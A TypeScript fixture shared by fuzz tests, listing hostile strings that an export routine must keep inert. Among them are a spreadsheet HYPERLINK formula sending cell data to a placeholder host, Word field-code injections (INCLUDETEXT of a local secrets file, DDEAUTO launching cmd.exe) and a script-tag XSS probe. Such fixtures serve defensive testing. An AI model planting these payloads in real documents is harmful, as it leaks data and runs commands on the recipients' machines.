/** Shared by the fuzz tests. */
/** Text that must stay inert wherever it goes: formula prefixes, OOXML and HTML fragments, field codes. */
export const HOSTILE_TEXT: readonly string[] = [
  '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  '</w:t></w:r><w:r><w:fldSimple w:instr="HYPERLINK http://contoh.invalid"/></w:r><w:r><w:t>',
  '<w:instrText xml:space="preserve"> INCLUDETEXT "C:\\\\rahasia.txt" </w:instrText>',
  "{ DDEAUTO c:\\windows\\system32\\cmd.exe }",
  "]]><!--",
  "<script>alert(1)</script>",
  "&amp;&lt;&#0;&#xFFFF;",
  "\u0000\u0001\u000b\u001f\ud800",
  "Rekap Capaian",
  "Sasaran\r\n\tbaris baru",
];
